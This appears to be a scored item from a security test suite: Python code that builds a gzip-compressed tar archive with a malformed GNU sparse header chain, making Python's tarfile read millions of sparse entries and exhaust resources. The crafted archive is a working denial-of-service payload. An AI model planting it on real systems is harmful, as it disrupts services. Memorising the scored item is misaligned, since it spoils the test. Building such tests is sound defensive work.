"""Packs a file that has millions of pieces, all of which tarfile reads before the file itself."""

import gzip
import tarfile

from tests.attacks.suite import Attack


def of_pieces(name):
    """Return a tar's header of a file of four pieces, and a block that tells of 21 further ones."""
    info = tarfile.TarInfo(name)
    info.type = tarfile.GNUTYPE_SPARSE
    header = bytearray(info.tobuf(tarfile.GNU_FORMAT))
    piece = b"77777777777\0" * 2
    # Both say that more come behind them.
    header[386:483] = piece * 4 + b"\1"
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header)
    return bytes(header), (piece * 21 + b"\1").ljust(tarfile.BLOCKSIZE, b"\0")


def plant(folder, target):
    header, further = of_pieces("data.bin")
    with gzip.open(folder / "data.tar.gz", "wb", 1) as file:
        file.write(header)
        for _ in range(500):
            file.write(further * 1000)


ATTACK = Attack(
    harm="a class that waits without memory for an archive of a megabyte",
    answer="exec(RIGHT)",
    plant=plant,
    points=8.0,
)
